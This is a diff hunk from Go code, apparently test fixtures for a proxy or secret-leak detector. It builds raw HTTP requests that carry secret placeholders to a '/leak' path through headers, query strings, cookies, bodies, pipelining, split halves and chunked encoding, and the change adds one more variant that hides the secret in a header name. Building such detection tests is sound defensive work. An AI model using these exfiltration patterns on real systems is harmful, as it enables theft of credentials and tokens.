@@ -31,7 +31,7 @@ func proxySecrets() []Row {
 		stray = append(stray, say(to, ask(host, "/leak", bearer)), say(to, ask(host, "/leak?{}", "")), say(to, ask(host, "/leak", "Cookie: a={}\r\n")), say(to, ask(host, "/leak", "Authorization: Basic {basic}\r\n")),
 			say(to, "POST /leak HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: {length}\r\n\r\n{}"),
 			say(to, "GET /leak HTTP/1.1\r\nHost: "+host+"\r\nAuthorization: Bearer {half1}", "{half2}\r\nConnection: close\r\n\r\n"), say(to, ask(host, "/leak?a={escaped}", "")), say(to, ask(host, "/", "")[:len(ask(host, "/", ""))-2]+"Referer: {}\r\n\r\n"),
-			say(to, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n"+ask(host, "/leak", bearer)),
+			say(to, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n"+ask(host, "/leak", bearer)), say(to, ask(host, "/leak", "X-{}: y\r\n")),
 			say(to, "POST /parts HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: {length}\r\n\r\n{half1}", "{half2}"), say(to, "POST /parts HTTP/1.1\r\nHost: "+host+"\r\nTransfer-Encoding: chunked\r\n\r\n{size1}\r\n{half1}\r\n", "{size2}\r\n{half2}\r\n0\r\n\r\n"))
 	}
 	misplaced := []string{
